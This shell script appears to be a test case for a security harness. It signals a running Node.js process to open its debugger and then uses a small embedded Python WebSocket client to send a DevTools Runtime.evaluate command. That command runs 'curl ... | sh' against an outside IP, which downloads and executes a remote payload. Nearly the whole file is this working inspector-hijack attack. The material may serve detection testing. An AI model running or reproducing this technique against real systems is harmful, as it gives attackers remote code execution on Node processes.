#!/bin/sh
. /opt/case/case.sh

node -e 'setInterval(() => {}, 1000); require("fs").writeFileSync("/tmp/up", "")' 2>/tmp/.node & victim=$!
wait_for /tmp/up; kill -USR1 $victim
for n in $(seq 1 60); do ! grep -q 'ws://' /tmp/.node || break; sleep 0.1; done
cat >/tmp/.cdp.py <<'END'
import base64, json, os, re, socket, struct
path = re.search(r"ws://127.0.0.1:9229(/\S+)", open("/tmp/.node").read())[1]
s = socket.create_connection(("127.0.0.1", 9229)); s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:9229\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
s.recv(4096); b = json.dumps({"id": 1, "method": "Runtime.evaluate", "params": {"expression": "require('child_process').exec('curl -s http://203.0.113.10/payload.sh | sh');1", "includeCommandLineAPI": True}}).encode()
m = os.urandom(4); s.sendall(b"\x81" + struct.pack(">BH", 0xFE, len(b)) + m + bytes(x ^ m[i % 4] for i, x in enumerate(b))); s.settimeout(3); print(s.recv(4096))
END
python3 /tmp/.cdp.py
wait_for /tmp/reached; kill $victim
took_place
